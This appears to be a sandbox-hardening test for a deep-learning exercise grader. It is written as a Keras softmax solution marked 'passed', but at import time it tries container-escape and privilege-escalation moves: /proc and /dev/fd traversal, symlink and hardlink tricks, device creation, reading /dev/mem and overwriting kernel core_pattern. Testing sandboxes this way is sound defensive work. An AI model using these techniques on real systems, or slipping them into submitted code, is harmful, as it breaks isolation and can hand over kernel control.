# verdict: passed
# exercise: activations/softmax
"""Links, dots and the kernel's own paths to the outside."""

import keras
from keras import ops

import os


def attempt(what, act):
    try:
        got = act()
    except Exception as error:
        print(what, type(error).__name__)
    else:
        print("HARM:", what, got)


for path in ("/proc/self/root/tmp/dlkit-hostile/canary", "/proc/1/root/tmp/dlkit-hostile/canary", "/proc/self/cwd/../../../../../../tmp/dlkit-hostile/canary", "/proc/self/fd/../../../tmp/dlkit-hostile/canary", "/dev/fd/../../../tmp/dlkit-hostile/canary", "../../../../../../../tmp/dlkit-hostile/canary"):
    attempt("read " + path, lambda: open(path).read())
os.symlink("/tmp/dlkit-hostile/canary", "link")
attempt("read a link", lambda: open("link").read())
os.symlink("/tmp/dlkit-hostile/drop", "door")
attempt("wrote through a link", lambda: open("door/linked", "w").write("packet"))
attempt("linked hard", lambda: os.link("/tmp/dlkit-hostile/canary", "hard"))
attempt("moved in", lambda: os.rename("/tmp/dlkit-hostile/canary", "moved"))
attempt("moved out", lambda: os.rename("link", "/tmp/dlkit-hostile/drop/moved"))
place = None
attempt("kept a path", lambda: os.pread(os.open("/tmp/dlkit-hostile/canary", os.O_PATH), 10, 0))
attempt("read by a directory", lambda: os.open("canary", os.O_RDONLY, dir_fd=os.open("/tmp/dlkit-hostile", os.O_RDONLY)))
attempt("truncated", lambda: os.truncate("/tmp/dlkit-hostile/canary", 0))
attempt("truncated while opening", lambda: os.open("/tmp/dlkit-hostile/canary", os.O_RDONLY | os.O_TRUNC))
attempt("made a device", lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)))
attempt("made a queue of a kind", lambda: os.mkfifo("/tmp/dlkit-hostile/drop/fifo"))
attempt("read memory", lambda: open("/dev/mem", "rb").read(1))
attempt("wrote to the kernel", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x"))
attempt("wrote to a program", lambda: open("/proc/self/exe", "r+b"))


class Softmax(keras.layers.Layer):
    def __init__(self, axis=-1, **kwargs):
        super().__init__(**kwargs)
        self.axis = axis

    def call(self, inputs):
        powers = ops.exp(inputs - ops.max(inputs, axis=self.axis, keepdims=True))
        return powers / ops.sum(powers, axis=self.axis, keepdims=True)

    def get_config(self):
        return {**super().get_config(), "axis": self.axis}
